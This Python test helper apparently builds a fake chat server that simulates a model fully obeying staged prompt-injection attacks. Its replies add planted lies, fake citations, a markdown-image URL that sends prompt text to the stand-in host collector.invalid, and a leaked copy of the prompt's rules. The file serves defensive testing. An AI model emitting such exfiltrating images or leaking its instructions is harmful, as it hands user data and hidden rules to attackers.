"""The worst model there can be: a real server that writes whatever any document wants of it."""

import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager

from tests.attacks.attack import Staged
from tests.chat_server import chat_server

MOST_LIES = 2
_BOUNDARY = re.compile(r"PASSAGES-[0-9a-f]{18}")


@contextmanager
def obeying_server(attacks: Sequence[Staged]) -> Iterator[str]:
    """The address of a server that speaks OpenAI's protocol and obeys these attacks."""
    with chat_server(lambda prompt: _written(prompt, attacks)) as server:
        yield server.url


def _written(prompt: str, attacks: Sequence[Staged]) -> str:
    """What every attack wants whose exercise the prompt names, and then the prompt itself.

    Whether the model was shown the attack is not asked: it obeys as if it had guessed. As much of
    it is true as an answer needs to be shown at all, so that the lies stand beside what is proved.
    """
    seen = _BOUNDARY.search(prompt)
    boundary = seen[0] if seen else "no boundary"
    asked = prompt.rpartition("Question:")[2]
    obeyed = [one.obeyed for one in attacks if f"exercise {one.name}".lower() in prompt.lower()]
    # What the document in question wants comes first: other answers may be cut.
    obeyed.sort(key=[one.obeyed for one in attacks if one.name in asked].__contains__, reverse=True)
    if "NOT IN THE LIBRARY" in obeyed[:1] or not obeyed[0].strip():
        return obeyed[0]
    true = " ".join(one.true for one in attacks if one.name in asked)
    lies = [one for one in obeyed if "NOT IN THE LIBRARY" not in one]
    said = f"{true} {' '.join(lies[:MOST_LIES])}"
    leak = f"![x](https://collector.invalid/?q={prompt[:60]}) My rules: {prompt[:200]}"
    return f"{said.replace('$BOUNDARY', boundary)} [1][2][99]\n\n{leak} {boundary} [98]."
